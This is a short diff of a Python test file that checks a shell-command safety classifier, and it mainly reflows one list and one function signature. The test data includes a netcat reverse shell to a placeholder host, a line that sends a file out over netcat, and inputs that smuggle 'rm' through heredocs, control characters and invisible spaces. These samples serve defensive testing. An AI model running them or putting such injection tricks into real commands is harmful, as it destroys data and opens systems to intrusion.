@@ -386,7 +386,17 @@ nc -e sh host 1
 nc host 80 < f
 watch -n1 'kubectl delete pod x'
 """.strip()
-MULTI = ["cat <<EOF\n$(rm x)\nEOF", "cat <<EOF | sh\nrm x\nEOF", "kubectl get pods\nrm -rf x", "ls\r\nrm x", "ls\x00", "ls\u00a0-l", "kubectl get\u200b pods", "kubectl get pods \\\n; rm x", "find . -del\\\nete"]
+MULTI = [
+    "cat <<EOF\n$(rm x)\nEOF",
+    "cat <<EOF | sh\nrm x\nEOF",
+    "kubectl get pods\nrm -rf x",
+    "ls\r\nrm x",
+    "ls\x00",
+    "ls\u00a0-l",
+    "kubectl get\u200b pods",
+    "kubectl get pods \\\n; rm x",
+    "find . -del\\\nete",
+]
 _LINES = [line for line in UNSAFE.split("\n") if line not in {"cat <<EOF", "$(rm x)", "EOF", "cat <<EOF | sh", "rm x"}]
 
 READING = r"""
@@ -556,7 +566,9 @@ def test_an_ordinary_look_is_called_reading(command: str) -> None:
         ("frobnicate --all", CommandLabel.UNKNOWN, None, "not known"),
     ],
 )  # fmt: skip
-def test_the_radius_and_the_way_back_are_named(command: str, label: CommandLabel, reversible: bool | None, radius: str) -> None:
+def test_the_radius_and_the_way_back_are_named(
+    command: str, label: CommandLabel, reversible: bool | None, radius: str
+) -> None:
     effect = explain(command)
     assert (effect.label, effect.reversible) == (label, reversible)
     assert radius in effect.blast_radius
